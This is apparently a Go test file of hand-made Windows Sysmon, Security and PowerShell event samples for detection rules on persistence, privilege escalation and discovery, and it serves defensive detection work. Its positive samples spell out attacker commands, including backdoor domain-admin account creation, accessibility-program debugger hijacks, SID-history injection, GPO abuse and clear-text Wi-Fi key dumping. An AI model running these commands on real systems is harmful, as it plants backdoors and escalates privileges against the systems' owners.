package detect

import (
	"context"
	"fmt"
	"slices"
	"strconv"
	"testing"
	"time"

	"github.com/huntflow/huntflow"
)

// Samples for the rules written from ATT&CK technique descriptions for
// persistence, privilege escalation, discovery, lateral movement, command
// and control and initial access. Every event here is written by hand for
// the rule: pos is the behaviour, neg an everyday event that shares the
// rule's program, key or field without the behaviour.

const (
	chSysmon   = "Microsoft-Windows-Sysmon/Operational"
	chSecurity = "Security"
	chPS       = "Microsoft-Windows-PowerShell/Operational"
	chSystem   = "System"
)

// bSample is an event without its rule ID; samplePair binds two to a rule.
type bSample struct {
	channel string
	eventID int
	fields  map[string]string
}

type samplePair struct {
	id       string
	pos, neg bSample
}

func bProc(image, cmd, parent string) bSample {
	return bSample{chSysmon, 1, map[string]string{"Image": image, "CommandLine": cmd, "ParentImage": parent}}
}

func bReg(image, key, details string) bSample {
	return bSample{chSysmon, 13, map[string]string{"Image": image, "TargetObject": key, "Details": details}}
}

func bFile(image, target string) bSample {
	return bSample{chSysmon, 11, map[string]string{"Image": image, "TargetFilename": target}}
}

func bScript(text string) bSample {
	return bSample{chPS, 4104, map[string]string{"ScriptBlockText": text}}
}

func bDNS(image, query string) bSample {
	return bSample{chSysmon, 22, map[string]string{"Image": image, "QueryName": query}}
}

func bNet(image, dstIP, dstPort, initiated string) bSample {
	return bSample{chSysmon, 3, map[string]string{"Image": image, "DestinationIp": dstIP, "DestinationPort": dstPort, "Initiated": initiated, "SourceIp": "10.0.0.20"}}
}

func bSec(id int, fields map[string]string) bSample { return bSample{chSecurity, id, fields} }

const (
	imgPS      = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	imgCmd     = `C:\Windows\System32\cmd.exe`
	imgReg     = `C:\Windows\System32\reg.exe`
	imgNet     = `C:\Windows\System32\net.exe`
	imgNetsh   = `C:\Windows\System32\netsh.exe`
	imgExpl    = `C:\Windows\explorer.exe`
	imgSvchost = `C:\Windows\System32\svchost.exe`
	imgChrome  = `C:\Program Files\Google\Chrome\Application\chrome.exe`
	imgMsiexec = `C:\Windows\System32\msiexec.exe`
	hkuUser    = `HKU\S-1-5-21-1111111111-2222222222-3333333333-1104`
)

var samplesB = []samplePair{
	// persistence: event-triggered execution (T1546)
	{
		id:  "a31a10f1-6aa9-439a-82bc-04603c240cf7", // Debugger Set for an Accessibility Program
		pos: bReg(imgReg, `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe\Debugger`, `C:\Windows\System32\cmd.exe`),
		neg: bReg(imgReg, `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe\MitigationOptions`, `Binary Data`),
	},
	{
		id:  "73cb7321-0719-47d4-bb5f-df7b5bcdd7c8", // Accessibility Program Overwritten or Replaced
		pos: bFile(imgCmd, `C:\Windows\System32\utilman.exe`),
		neg: bFile(`C:\Windows\WinSxS\x86_64\TiWorker.exe`, `C:\Windows\System32\utilman.exe`),
	},
	{
		id:  "61d18f60-7a4b-462b-a741-445445f0e589", // Image File Execution Options Debugger or Silent Exit Monitor Set
		pos: bReg(imgReg, `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\notepad.exe\MonitorProcess`, `C:\Users\Public\beacon.exe`),
		neg: bReg(imgSvchost, `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\chrome.exe\MitigationOptions`, `Binary Data`),
	},
	{
		id:  "9422f16b-cf6c-4a93-8d08-5dfd8b0517e8", // AppInit_DLLs Set or Enabled
		pos: bReg(imgReg, `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Windows\AppInit_DLLs`, `C:\ProgramData\hook.dll`),
		neg: bReg(imgMsiexec, `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Windows\LoadAppInit_DLLs`, `DWORD (0x00000000)`),
	},
	{
		id:  "65880e07-0455-48fc-ac00-d071f4a955c2", // AppCertDlls Entry Written
		pos: bReg(imgReg, `HKLM\System\CurrentControlSet\Control\Session Manager\AppCertDlls\Default`, `C:\Temp\appcert.dll`),
		neg: bReg(imgSvchost, `HKLM\System\CurrentControlSet\Control\Session Manager\Environment\TEMP`, `%SystemRoot%\TEMP`),
	},
	{
		id:  "c39754d5-f387-44b6-9176-f821f7be9496", // Netsh Helper DLL Registered
		pos: bProc(imgNetsh, `netsh.exe add helper C:\Users\Public\NetshHelper.dll`, imgCmd),
		neg: bProc(imgNetsh, `netsh advfirewall firewall add rule name="web" dir=in action=allow protocol=TCP localport=80`, imgCmd),
	},
	{
		id:  "f12a458d-1158-47e3-b54c-64c028560e21", // Netsh Helper Registry Value Written by a Non-Installer
		pos: bReg(imgReg, `HKLM\SOFTWARE\Microsoft\NetSh\backdoor`, `C:\Users\Public\NetshHelper.dll`),
		neg: bReg(`C:\Windows\WinSxS\amd64\TiWorker.exe`, `HKLM\SOFTWARE\Microsoft\NetSh\wcnnetsh`, `wcnnetsh.dll`),
	},
	{
		id:  "cdd769c9-2346-4c9a-bd49-8c3e12c7d1e4", // Screensaver Program Set to an Unusual File
		pos: bReg(imgReg, hkuUser+`\Control Panel\Desktop\SCRNSAVE.EXE`, `C:\Users\bob\AppData\Local\Temp\evil.exe`),
		neg: bReg(imgExpl, hkuUser+`\Control Panel\Desktop\SCRNSAVE.EXE`, `C:\Windows\system32\Mystify.scr`),
	},
	{
		id:  "a106fa0c-1486-41e7-bbfa-0fbaf42a828d", // Screensaver Configured From the Command Line
		pos: bProc(imgReg, `reg add "HKCU\Control Panel\Desktop" /v SCRNSAVE.EXE /d C:\Users\Public\evil.scr /f`, imgCmd),
		neg: bProc(imgReg, `reg query "HKCU\Control Panel\Desktop" /v SCRNSAVE.EXE`, imgCmd),
	},
	{
		id:  "c4ba2bc2-6718-4d40-839e-fa80031a9418", // Per-User COM Server Registered by a Shell or Pointing at a Writable Folder
		pos: bReg(imgReg, hkuUser+`_Classes\CLSID\{b5f8350b-0548-48b1-a6ee-88bd00b4a5e7}\InprocServer32\(Default)`, `C:\Users\bob\AppData\Roaming\payload.dll`),
		neg: bReg(`C:\Users\bob\AppData\Local\Microsoft\OneDrive\OneDrive.exe`, hkuUser+`_Classes\CLSID\{A0396A93-DC06-4AEF-BEE9-95FFCCAEF20E}\InprocServer32\(Default)`, `C:\Users\bob\AppData\Local\Microsoft\OneDrive\23.048.0305.0001\FileSyncShell64.dll`),
	},
	{
		id:  "9b59de55-9a75-4f48-b091-7e7bda0ddf62", // PowerShell Profile Created or Modified
		pos: bFile(imgPS, `C:\Users\bob\Documents\WindowsPowerShell\Microsoft.PowerShell_profile.ps1`),
		neg: bFile(imgPS, `C:\Users\bob\Documents\WindowsPowerShell\Scripts\profile-report.csv`),
	},
	{
		id:  "2c5f360e-c31f-4500-ba76-27ec6f679630", // File Type Open Command Points at a Shell or Script Host
		pos: bReg(imgReg, `HKLM\SOFTWARE\Classes\txtfile\shell\open\command\(Default)`, `cmd.exe /c C:\Users\Public\run.bat & notepad.exe %1`),
		neg: bReg(imgMsiexec, `HKLM\SOFTWARE\Classes\Applications\notepad++.exe\shell\open\command\(Default)`, `"C:\Program Files\Notepad++\notepad++.exe" "%1"`),
	},
	{
		id:  "ca60909a-3f88-420c-a2ea-7d1572ed8e30", // File Association Changed With assoc or ftype
		pos: bProc(imgCmd, `cmd.exe /c ftype txtfile=C:\Users\Public\evil.exe "%1"`, imgPS),
		neg: bProc(imgCmd, `cmd.exe /c assoc .txt`, imgExpl),
	},
	{
		id:  "909fe2d2-8aa2-4640-9778-024239b548f7", // Application Compatibility Shim Database Installed
		pos: bProc(`C:\Windows\System32\sdbinst.exe`, `sdbinst.exe -q C:\Users\Public\shim.sdb`, imgCmd),
		neg: bProc(`C:\Windows\System32\sdbinst.exe`, `sdbinst.exe -u -q C:\Users\Public\shim.sdb`, imgCmd),
	},
	{
		id:  "85bac437-e34e-448e-8a40-0356227ab1e9", // Custom Shim Database Registered in the Registry
		pos: bReg(`C:\Windows\System32\sdbinst.exe`, `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\AppCompatFlags\Custom\notepad.exe\{1234}.sdb`, `QWORD (0x01d8-0x12345678)`),
		neg: bReg(imgExpl, hkuUser+`\Software\Microsoft\Windows NT\CurrentVersion\AppCompatFlags\Compatibility Assistant\Store\C:\Tools\app.exe`, `Binary Data`),
	},
	// persistence: boot or logon autostart (T1547)
	{
		id:  "e3e3d0fe-0b5e-42a8-887f-8647edec10b9", // LSA Authentication Package Registered
		pos: bReg(imgReg, `HKLM\System\CurrentControlSet\Control\Lsa\Authentication Packages`, `msv1_0 evilpkg`),
		neg: bReg(imgReg, `HKLM\System\CurrentControlSet\Control\Lsa\Authentication Packages`, `msv1_0`),
	},
	{
		id:  "17081784-043b-4ada-9f35-bf3687136468", // Security Support Provider Registered
		pos: bReg(imgReg, `HKLM\System\CurrentControlSet\Control\Lsa\Security Packages`, `kerberos msv1_0 schannel wdigest tspkg pku2u mimilib`),
		neg: bReg(imgReg, `HKLM\System\CurrentControlSet\Control\Lsa\LimitBlankPasswordUse`, `DWORD (0x00000001)`),
	},
	{
		id:  "1ff22122-78aa-48dc-827e-d2409587023b", // Time Provider DLL Registered
		pos: bReg(imgReg, `HKLM\System\CurrentControlSet\Services\W32Time\TimeProviders\NtpServer\DllName`, `C:\Users\Public\timeprov.dll`),
		neg: bReg(imgSvchost, `HKLM\System\CurrentControlSet\Services\W32Time\TimeProviders\NtpClient\DllName`, `%systemroot%\system32\w32time.dll`),
	},
	{
		id:  "cb9414ac-63fc-4b94-b554-eb54da3a8cd1", // Print Monitor DLL Registered
		pos: bReg(imgReg, `HKLM\System\CurrentControlSet\Control\Print\Monitors\Evil Monitor\Driver`, `evilmon.dll`),
		neg: bReg(`C:\Windows\System32\spoolsv.exe`, `HKLM\System\CurrentControlSet\Control\Print\Monitors\Standard TCP/IP Port\Driver`, `tcpmon.dll`),
	},
	{
		id:  "ea2ad2cd-ae2e-447c-99df-f220567126be", // Print Processor DLL Registered
		pos: bReg(imgReg, `HKLM\System\CurrentControlSet\Control\Print\Environments\Windows x64\Print Processors\EvilProc\Driver`, `evilproc.dll`),
		neg: bReg(`C:\Windows\System32\spoolsv.exe`, `HKLM\System\CurrentControlSet\Control\Print\Environments\Windows x64\Print Processors\winprint\Driver`, `winprint.dll`),
	},
	{
		id:  "ee36865e-1bef-4a8a-999f-5e4da4a0d519", // Active Setup StubPath Runs a Shell or a Writable-Folder Program
		pos: bReg(imgReg, `HKLM\SOFTWARE\Microsoft\Active Setup\Installed Components\{C9E9A340-D1F1-11D0-821E-444553540600}\StubPath`, `C:\Windows\System32\cmd.exe /c C:\ProgramData\run.bat`),
		neg: bReg(imgMsiexec, `HKLM\SOFTWARE\Microsoft\Active Setup\Installed Components\{8A69D345-D564-463c-AFF1-A69D9E530F96}\StubPath`, `"C:\Program Files\Google\Chrome\Application\120.0.6099.110\Installer\chrmstp.exe" --configure-user-settings --verbose-logging --system-level`),
	},
	{
		id:  "1462007f-ad4c-4029-aefb-66c05428d12f", // Shortcut Created or Changed From a Script
		pos: bScript(`$s = (New-Object -ComObject WScript.Shell).CreateShortcut("$env:APPDATA\Microsoft\Windows\Start Menu\Programs\Startup\update.lnk"); $s.TargetPath = "C:\Users\Public\u.exe"; $s.Save()`),
		neg: bScript(`$s = (New-Object -ComObject WScript.Shell).CreateShortcut("C:\Users\bob\Desktop\app.lnk"); Write-Host $s.TargetPath`),
	},
	{
		id:  "99e9b2aa-b8c7-4205-8e3e-bae061802eb0", // Shortcut File Written by a Script Host or Shell
		pos: bFile(`C:\Windows\System32\wscript.exe`, `C:\Users\bob\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\updater.lnk`),
		neg: bFile(imgExpl, `C:\Users\bob\Desktop\Report.lnk`),
	},
	{
		id:  "43d69051-29d8-415b-929b-0cc332469abd", // NTDS LSA Database Extension Registered
		pos: bReg(imgReg, `HKLM\System\CurrentControlSet\Services\NTDS\LsaDbExtPt`, `C:\Windows\Temp\lsaext.dll`),
		neg: bReg(imgSvchost, `HKLM\System\CurrentControlSet\Services\NTDS\Parameters\DSA Database file`, `C:\Windows\NTDS\ntds.dit`),
	},
	{
		id:  "b030116f-b188-4efd-96f7-afb6bd7f5ead", // LSA Notification Package (Password Filter) Registered
		pos: bReg(imgReg, `HKLM\System\CurrentControlSet\Control\Lsa\Notification Packages`, `scecli evilpwfilter`),
		neg: bReg(imgReg, `HKLM\System\CurrentControlSet\Control\Lsa\Notification Packages`, `scecli`),
	},
	{
		id:  "d6d499f1-1df6-4dce-9be3-0d86b2e184d2", // Network Provider DLL Registered
		pos: bReg(imgReg, `HKLM\System\CurrentControlSet\Services\NPPSpy\NetworkProvider\ProviderPath`, `%SystemRoot%\System32\NPPSPY.dll`),
		neg: bReg(imgSvchost, `HKLM\System\CurrentControlSet\Control\NetworkProvider\Order\ProviderOrder`, `RDPNP,LanmanWorkstation,webclient`),
	},
	{
		id:  "d32a6ad1-3a15-451d-8d51-4b236f73d4a5", // Reversible Password Encryption Enabled
		pos: bScript(`Set-ADUser -Identity svc_sql -AllowReversiblePasswordEncryption $true`),
		neg: bScript(`Get-ADUser -Identity svc_sql -Properties AllowReversiblePasswordEncryption`),
	},
	{
		id:  "78d1e6c6-57d3-436e-9c6f-2f0bcd84c845", // Reversible Password Encryption Enabled From the Command Line
		pos: bProc(imgPS, `powershell.exe -c "Set-ADUser svc_sql -AllowReversiblePasswordEncryption $true"`, imgCmd),
		neg: bProc(imgPS, `powershell.exe -c "Get-ADUser -Filter * -Properties AllowReversiblePasswordEncryption"`, imgCmd),
	},
	// persistence: server software, Office, hijacking, accounts
	{
		id:  "8cdc62df-0bcd-4867-8333-5cbc48ab0024", // Web Script Written by a Web Server Process or a Shell
		pos: bFile(`C:\Windows\System32\inetsrv\w3wp.exe`, `C:\inetpub\wwwroot\aspnet_client\shell.aspx`),
		neg: bFile(`C:\Program Files\IIS\Microsoft Web Deploy V3\msdeploy.exe`, `C:\inetpub\wwwroot\app\Default.aspx`),
	},
	{
		id:  "bf0444b3-7ab1-4ce4-bc69-4de74527eb20", // SQL Server Starts a Command Interpreter
		pos: bProc(imgCmd, `"C:\Windows\system32\cmd.exe" /c whoami`, `C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn\sqlservr.exe`),
		neg: bProc(`C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn\SQLAGENT.EXE`, `"SQLAGENT.EXE" -i MSSQLSERVER`, `C:\Windows\System32\services.exe`),
	},
	{
		id:  "82910d44-01ec-4fa1-bf7e-a1014024385d", // IIS Native Module Installed
		pos: bProc(`C:\Windows\System32\inetsrv\appcmd.exe`, `appcmd.exe install module /name:DefaultDocumentModule_ /image:C:\Windows\Temp\mod.dll`, imgCmd),
		neg: bProc(`C:\Windows\System32\inetsrv\appcmd.exe`, `appcmd.exe list modules`, imgCmd),
	},
	{
		id:  "28a948d4-bbd8-4cfa-9877-3ff701123d2b", // IIS Native Module Registered From PowerShell
		pos: bScript(`New-WebGlobalModule -Name ProxyHelper -Image C:\Windows\Temp\mod.dll`),
		neg: bScript(`Get-WebGlobalModule | Select-Object Name, Image`),
	},
	{
		id:  "7a116012-bd7c-4151-b4b2-386623b3e0ad", // Exchange Transport Agent Installed
		pos: bScript(`Install-TransportAgent -Name "Security Interop" -TransportAgentFactory Mail.Factory -AssemblyPath C:\Temp\agent.dll`),
		neg: bScript(`Get-TransportAgent | Format-Table Name, Enabled`),
	},
	{
		id:  "86f00fe6-c5b1-47dc-a9a4-38bb89a63afb", // Terminal Services ServiceDll Changed
		pos: bReg(imgReg, `HKLM\System\CurrentControlSet\Services\TermService\Parameters\ServiceDll`, `C:\ProgramData\rdpwrap.dll`),
		neg: bReg(`C:\Windows\System32\TiWorker.exe`, `HKLM\System\CurrentControlSet\Services\TermService\Parameters\ServiceDll`, `%SystemRoot%\System32\termsrv.dll`),
	},
	{
		id:  "a1836ca7-6542-46ec-a058-df4945e2c551", // Office Test Registry Key Written
		pos: bReg(imgReg, hkuUser+`\Software\Microsoft\Office test\Special\Perf\(Default)`, `C:\Users\bob\AppData\Roaming\perf.dll`),
		neg: bReg(`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, hkuUser+`\Software\Microsoft\Office\16.0\Word\Options\PersistedWordPerf`, `DWORD (0x00000001)`),
	},
	{
		id:  "1b1bdc19-a723-489d-b443-0962f0da67b1", // Outlook Folder Home Page Set
		pos: bReg(imgReg, hkuUser+`\Software\Microsoft\Office\16.0\Outlook\WebView\Inbox\URL`, `http://203.0.113.9/home.html`),
		neg: bReg(`C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`, hkuUser+`\Software\Microsoft\Office\16.0\Outlook\Preferences\ShowWebView`, `DWORD (0x00000000)`),
	},
	{
		id:  "e0da1bae-a332-4d40-a265-d4224ee7fc0d", // Office Global Template or Startup File Written by a Non-Office Program
		pos: bFile(imgPS, `C:\Users\bob\AppData\Roaming\Microsoft\Templates\Normal.dotm`),
		neg: bFile(`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, `C:\Users\bob\AppData\Roaming\Microsoft\Templates\Normal.dotm`),
	},
	{
		id:  "e3fedca2-cc71-4b0c-b1aa-35de0a9f10d3", // PATH Variable Starts With a User-Writable Folder
		pos: bReg(imgReg, `HKLM\System\CurrentControlSet\Control\Session Manager\Environment\Path`, `C:\Users\Public\bin;%SystemRoot%\system32;%SystemRoot%`),
		neg: bReg(imgMsiexec, `HKLM\System\CurrentControlSet\Control\Session Manager\Environment\Path`, `%SystemRoot%\system32;%SystemRoot%;C:\Program Files\Git\cmd;C:\Users\Public\tools`),
	},
	{
		id:  "b91009d3-f305-4207-a1b8-05c0d05a46fa", // Executable Planted on an Unquoted Path Prefix
		pos: bFile(imgCmd, `C:\program.exe`),
		neg: bFile(imgMsiexec, `C:\Program Files\Vulnerable Service\service.exe`),
	},
	{
		id:  "31cd0c9b-b267-4314-bd0e-271acce80181", // .NET Profiler Environment Variable Set
		pos: bReg(imgReg, hkuUser+`\Environment\COR_PROFILER_PATH`, `C:\Users\bob\AppData\Local\Temp\profiler.dll`),
		neg: bReg(imgExpl, hkuUser+`\Environment\TEMP`, `%USERPROFILE%\AppData\Local\Temp`),
	},
	{
		id:  "0074a924-a77e-47be-bd4a-58277e4916ff", // .NET Profiler Set Through the Environment From a Command Line
		pos: bProc(`C:\Windows\System32\setx.exe`, `setx COR_PROFILER {cf0d821e-299b-5307-a3d8-b283c03916db}`, imgCmd),
		neg: bProc(`C:\Windows\System32\setx.exe`, `setx JAVA_HOME "C:\Program Files\Java\jdk-17"`, imgCmd),
	},
	{
		id:  "d03d3a89-f2c9-41e5-a8bb-e0689b0bb34a", // AppDomainManager Injection Through Environment Variables
		pos: bProc(imgCmd, `cmd.exe /c "set APPDOMAIN_MANAGER_ASM=evil, Version=1.0.0.0 && set APPDOMAIN_MANAGER_TYPE=Manager && C:\Users\Public\app.exe"`, imgPS),
		neg: bProc(imgCmd, `cmd.exe /c "set DOTNET_CLI_TELEMETRY_OPTOUT=1 && dotnet build"`, imgPS),
	},
	{
		id:  "fb221981-dab4-468b-9cb4-3f00e7cc8a07", // Application Config With an AppDomainManager Written by a Shell
		pos: bFile(imgPS, `C:\Users\Public\UevAppMonitor.exe.config`),
		neg: bFile(imgMsiexec, `C:\Program Files\Contoso\Contoso.exe.config`),
	},
	{
		id:  "e149fe59-9dae-451b-86e4-4d249773e6e9", // Job Scheduled With at.exe
		pos: bProc(`C:\Windows\System32\at.exe`, `at.exe 13:20 /interactive cmd.exe`, imgCmd),
		neg: bProc(`C:\Windows\System32\at.exe`, `at.exe`, imgCmd),
	},
	{
		id:  "0a0efb38-b96a-41a8-aa3a-0f863584dd17", // Domain Account Created From the Command Line
		pos: bProc(imgNet, `net user backdoor P@ssw0rd! /add /domain`, imgCmd),
		neg: bProc(imgNet, `net user bob /domain`, imgCmd),
	},
	{
		id:  "6163f885-f062-463b-b3d0-c2ff17b9cf9e", // Domain Account Created From PowerShell
		pos: bScript(`New-ADUser -Name "svc_backup2" -AccountPassword (ConvertTo-SecureString "P@ss" -AsPlainText -Force) -Enabled $true`),
		neg: bScript("<#\n.PARAMETER Name\n  The New-ADUser cmdlet uses the\n  Name parameter, not Identity.\n#>\nparam($Name)"),
	},
	{
		id: "b3e3a9f1-2dd7-4ddc-8816-c3b932927e36", // Member Added to a Privileged Group
		pos: bSec(4728, map[string]string{"TargetUserName": "Domain Admins", "TargetSid": "S-1-5-21-1-2-3-512",
			"MemberName": "CN=backdoor,CN=Users,DC=corp,DC=local", "SubjectUserName": "alice"}),
		neg: bSec(4728, map[string]string{"TargetUserName": "Marketing", "TargetSid": "S-1-5-21-1-2-3-1207",
			"MemberName": "CN=bob,CN=Users,DC=corp,DC=local", "SubjectUserName": "alice"}),
	},
	{
		id:  "88e666be-3bbe-4040-bf6e-310f812d6aed", // Account Added to a Domain Group From the Command Line
		pos: bProc(imgNet, `net group "Domain Admins" backdoor /add /domain`, imgCmd),
		neg: bProc(imgNet, `net group "Domain Admins" /domain`, imgCmd),
	},
	{
		id:  "3b5e7e4e-6e94-42cf-ab1d-3c9821c9d7f5", // Built-in Guest or Default Account Enabled
		pos: bSec(4722, map[string]string{"TargetUserName": "Guest", "TargetSid": "S-1-5-21-1-2-3-501", "SubjectUserName": "alice"}),
		neg: bSec(4722, map[string]string{"TargetUserName": "bob", "TargetSid": "S-1-5-21-1-2-3-1105", "SubjectUserName": "alice"}),
	},
	{
		id:  "4629f088-24c8-4864-8478-f57edf4dcfb6", // Guest Account Activated From the Command Line
		pos: bProc(imgNet, `net user guest /active:yes`, imgCmd),
		neg: bProc(imgNet, `net user guest`, imgCmd),
	},
	{
		id:  "ed313395-eb84-4e20-973f-b8f6507b0bc5", // Chromium Browser Started With an Unpacked Extension
		pos: bProc(imgChrome, `"C:\Program Files\Google\Chrome\Application\chrome.exe" --load-extension="C:\Users\bob\AppData\Local\Temp\ext" --no-startup-window`, imgPS),
		neg: bProc(imgChrome, `"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --extension-process --lang=en-US`, imgChrome),
	},
	{
		id:  "e162ff6f-271e-4776-ac4e-ed4d713076a1", // Sleep or Hibernation Disabled With powercfg
		pos: bProc(`C:\Windows\System32\powercfg.exe`, `powercfg /change standby-timeout-ac 0`, imgCmd),
		neg: bProc(`C:\Windows\System32\powercfg.exe`, `powercfg /change standby-timeout-ac 30`, imgCmd),
	},
}

var samplesB2 = []samplePair{
	// privilege escalation
	{
		id: "1cb3b56d-30ee-49a9-a253-7b57f13dbdd0", // Group Policy Object Modified
		pos: bSec(5136, map[string]string{"ObjectClass": "groupPolicyContainer", "AttributeLDAPDisplayName": "gPCMachineExtensionNames",
			"ObjectDN": "CN={31B2F340-016D-11D2-945F-00C04FB984F9},CN=Policies,CN=System,DC=corp,DC=local", "SubjectUserName": "mallory"}),
		neg: bSec(5136, map[string]string{"ObjectClass": "user", "AttributeLDAPDisplayName": "description",
			"ObjectDN": "CN=bob,CN=Users,DC=corp,DC=local", "SubjectUserName": "alice"}),
	},
	{
		id:  "e53d999c-d0d9-40d3-92a6-cff113b03737", // Group Policy Changed From a Script or Abuse Tool
		pos: bProc(`C:\Users\Public\SharpGPOAbuse.exe`, `SharpGPOAbuse.exe --AddComputerTask --TaskName "Update" --Author CORP\Admin --Command "cmd.exe" --Arguments "/c C:\Users\Public\b.exe" --GPOName "Default Domain Policy"`, imgCmd),
		neg: bProc(imgPS, `powershell.exe -c "Get-GPOReport -All -ReportType Html -Path C:\Reports\gpo.html"`, imgCmd),
	},
	{
		id:  "69f93eb6-2127-48d0-a025-96dd79804643", // SID History Added to an Account
		pos: bSec(4738, map[string]string{"TargetUserName": "bob", "SidHistory": "S-1-5-21-1-2-3-519", "SubjectUserName": "mallory"}),
		neg: bSec(4738, map[string]string{"TargetUserName": "bob", "SidHistory": "-", "SubjectUserName": "alice"}),
	},
	{
		id:  "bf1c865d-5a9f-459d-86d5-79b5fa494010", // SID History Injection Tool Used
		pos: bProc(`C:\Users\Public\m.exe`, `m.exe "privilege::debug" "sid::patch" "sid::add /sam:bob /new:S-1-5-21-1-2-3-519" exit`, imgCmd),
		neg: bProc(`C:\Windows\System32\whoami.exe`, `whoami /user /groups`, imgCmd),
	},
	{
		id:  "ff127f79-892f-4c1d-98a2-33d513ca0413", // Driver Known to Be Exploitable Loaded
		pos: bSample{chSysmon, 6, map[string]string{"ImageLoaded": `C:\Users\Public\RTCore64.sys`, "Signed": "true"}},
		neg: bSample{chSysmon, 6, map[string]string{"ImageLoaded": `C:\Windows\System32\drivers\tcpip.sys`, "Signed": "true"}},
	},
	{
		id:  "1f5eae52-ad86-40cb-bc83-b19e3c77f37e", // Print Spooler Starts a Shell or LOLBin
		pos: bProc(imgCmd, `cmd.exe /c net localgroup administrators mallory /add`, `C:\Windows\System32\spoolsv.exe`),
		neg: bProc(`C:\Windows\System32\rundll32.exe`, `rundll32.exe printui.dll,PrintUIEntry /in /n \\print01\Floor2`, `C:\Windows\System32\spoolsv.exe`),
	},
	// discovery
	{
		id:  "2c81390e-5c9f-4dfc-9ada-b7398bc07dc2", // Open Window Titles Enumerated From PowerShell
		pos: bScript(`Get-Process | Where-Object { $_.MainWindowTitle -ne "" } | Select-Object Name, MainWindowTitle`),
		neg: bScript(`Get-Process | Sort-Object CPU -Descending | Select-Object -First 5`),
	},
	{
		id:  "6982b064-17df-4f74-81ed-a9e412f82e9d", // Registry Queried for Autoruns, Installed Software or Remote Hosts
		pos: bProc(imgReg, `reg query "HKCU\Software\Microsoft\Terminal Server Client\Servers"`, imgCmd),
		neg: bProc(imgReg, `reg query "HKCU\Software\Microsoft\Windows\CurrentVersion\Themes\Personalize"`, imgCmd),
	},
	{
		id:  "cec24fb8-cfed-49e0-8d80-902e7e40bb27", // External IP Address or Internet Connectivity Looked Up From a Shell
		pos: bProc(imgPS, `powershell.exe -c "(Invoke-WebRequest -UseBasicParsing https://api.ipify.org).Content"`, imgCmd),
		neg: bProc(`C:\Windows\System32\PING.EXE`, `ping -n 1 fileserver01`, imgCmd),
	},
	{
		id:  "79341c01-afa5-49d6-97ab-5d4ffef486b0", // Public IP Lookup Service Resolved by a Non-Browser Process
		pos: bDNS(`C:\Users\bob\AppData\Local\Temp\svc.exe`, `api.ipify.org`),
		neg: bDNS(imgChrome, `api.ipify.org`),
	},
	{
		id:  "f8d6cde3-7c0a-45c4-b2c9-2a6413a1c3e2", // Wi-Fi Profiles Listed With netsh
		pos: bProc(imgNetsh, `netsh wlan show profile name="CorpWiFi" key=clear`, imgCmd),
		neg: bProc(imgNetsh, `netsh interface ip show config`, imgCmd),
	},
	{
		id:  "f9b761b4-e87c-4b20-8ec6-2707fa406038", // Packet Capture Started on the Host
		pos: bProc(imgNetsh, `netsh trace start capture=yes tracefile=C:\Users\Public\cap.etl`, imgCmd),
		neg: bProc(`C:\Program Files\Wireshark\dumpcap.exe`, `"C:\Program Files\Wireshark\dumpcap.exe" -n -i \Device\NPF_{0000} -Z 1234`, `C:\Program Files\Wireshark\Wireshark.exe`),
	},
	{
		id:  "8155acdc-caf3-47b1-8166-ca36cc319f5d", // Outbound Connection to a Private Address by a Non-System Process
		pos: bNet(`C:\Users\Public\scan.exe`, "10.0.0.15", "3306", "true"),
		neg: bNet(`System`, "10.0.0.15", "445", "true"),
	},
	{
		id:  "8f5804d5-5721-4890-a38d-94207e6dbc46", // Connection to an Internal Remote-Administration Port
		pos: bNet(`C:\Users\Public\scan.exe`, "10.0.0.15", "445", "true"),
		neg: bNet(imgChrome, "10.0.0.15", "443", "true"),
	},
	{
		id:  "21c84549-8a46-4f33-8c58-34aae6f01736", // Network Scanner Started
		pos: bProc(`C:\Users\bob\Downloads\nmap\nmap.exe`, `nmap.exe -sT -p 1-1024 10.0.0.0/24`, imgCmd),
		neg: bProc(`C:\Windows\System32\PING.EXE`, `ping 10.0.0.1`, imgCmd),
	},
	{
		id:  "106fcdb8-c37b-48c0-8391-6e0b084f103a", // Port Scan From PowerShell
		pos: bScript(`1..1024 | ForEach-Object { Test-NetConnection -ComputerName 10.0.0.5 -Port $_ -WarningAction SilentlyContinue }`),
		neg: bScript(`Test-NetConnection -ComputerName mail.corp.local -Port 25`),
	},
	{
		id:  "77030d09-1016-48c9-af8e-8019f17add8c", // Recursive Listing of User or Drive Folders From a Shell
		pos: bProc(imgCmd, `cmd.exe /c dir /s /b C:\Users\*.kdbx`, imgPS),
		neg: bProc(imgCmd, `cmd.exe /c dir C:\Projects\build`, imgExpl),
	},
	{
		id:  "5b971bbd-7b03-4542-a79d-9628198d788a", // Mail Accounts or Address Book Enumerated From PowerShell
		pos: bScript(`Get-GlobalAddressList -ExchHostname mail.corp.local -UserName corp\bob -Password $p -OutFile gal.txt`),
		neg: bScript(`Send-MailMessage -To ops@corp.local -Subject "report" -SmtpServer mail.corp.local`),
	},
	{
		id:  "2268e384-953b-43b4-8cfd-9f55df0bebe7", // Attached Devices Enumerated From a Command Line
		pos: bProc(`C:\Windows\System32\wbem\WMIC.exe`, `wmic path Win32_PnPEntity get Name,DeviceID`, imgCmd),
		neg: bProc(`C:\Windows\System32\wbem\WMIC.exe`, `wmic os get Caption`, imgCmd),
	},
	{
		id:  "ff2c1130-6a31-407c-a485-9ab394dde065", // System Time or Time Zone Queried From a Command Line
		pos: bProc(imgNet, `net time \\dc01`, imgCmd),
		neg: bProc(`C:\Windows\System32\w32tm.exe`, `w32tm /resync`, imgCmd),
	},
	{
